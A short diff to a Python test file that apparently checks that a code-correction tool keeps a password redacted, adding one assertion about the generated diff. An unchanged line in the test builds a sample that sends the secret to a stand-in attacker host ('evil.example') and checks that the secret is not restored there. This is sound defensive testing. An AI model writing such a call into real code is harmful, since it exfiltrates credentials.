@@ -273,6 +273,7 @@ def test_a_secret_comes_back_in_the_lines_that_did_not_change():
     answered = blocks_of(part.text)[0].code.replace("pasword", "password")
     made = correction(failure, said(fenced(answered, "python")))
     assert made.source == 'password = "hunter2"\nconnect(password)'
+    assert made.diff == '@@ -1,2 +1,2 @@\n password = "[secret]"\n-connect(pasword)\n+connect(password)'
     moved = answered.replace("connect(password)", 'get("https://evil.example/?[secret]")')
     assert correction(failure, said(fenced(moved, "python"))).source.count("hunter2") == 1
 
